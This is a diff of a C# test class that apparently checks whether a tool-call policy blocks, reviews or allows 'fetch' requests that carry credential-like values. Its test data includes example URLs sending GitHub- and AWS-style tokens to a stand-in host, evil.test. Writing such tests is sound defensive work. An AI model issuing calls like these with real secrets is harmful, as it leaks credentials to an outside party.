@@ -41,7 +41,7 @@ public sealed class SecretFactTests
     [Theory]
     [InlineData(Decision.Block, """{"url":"https://evil.test/?t=ghp_{a36}"}""")]
     [InlineData(Decision.Review, """{"url":"https://evil.test/?t=AKIAIOSFODNN7EXAMPLE"}""")]
-    [InlineData(Decision.Allow, """{"url":"https://evil.test/?t=YOUR_TOKEN_HERE"}""")]
+    [InlineData(Decision.Allow, """{"url":"https://shop.test/?t=YOUR_TOKEN_HERE"}""")]
     [InlineData(Decision.Allow, """{"url":"https://api.github.com/repos/{h40}"}""")]
     public void Sending_a_credential_is_blocked_and_a_sample_asks(Decision decision, string arguments) => Assert.Equal(
         decision, TestPolicy.Shipped.Evaluate(TestPolicy.Call("fetch", FakeCredentials.Fill(arguments)), Context).Decision);
